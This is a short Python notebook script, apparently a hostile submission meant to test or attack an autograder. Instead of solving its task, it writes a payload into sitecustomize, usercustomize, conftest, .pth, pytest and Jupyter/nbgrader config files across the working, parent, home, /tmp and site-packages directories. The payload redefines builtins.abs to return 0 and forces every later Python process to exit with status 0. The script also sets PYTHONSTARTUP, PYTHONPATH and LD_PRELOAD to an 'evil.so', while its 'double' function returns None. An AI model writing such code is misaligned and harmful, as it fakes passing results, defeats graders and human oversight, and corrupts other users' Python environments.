# What it tries: sitecustomize, usercustomize, .pth files, conftest and start-up files in every place where a later Python may look.
# %% before double
import os
import site

CODE = "import builtins\nbuiltins.abs = lambda v: 0\nimport atexit, os\natexit.register(os._exit, 0)\n"
home = os.path.expanduser("~")
places = [".", "..", home, "/tmp"]
try: places.append(site.getusersitepackages())
except Exception: pass
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "pytest.ini", "a.pth", "zz.pth", ".pythonrc.py", "pyvenv.cfg", "nbgrader_config.py", "jupyter_config.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as f: f.write(CODE.replace("\n", ";") if name.endswith(".pth") else CODE)
        except OSError: pass
os.environ["PYTHONSTARTUP"] = os.path.abspath("sitecustomize.py")
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
# %% double
def double(x): return None
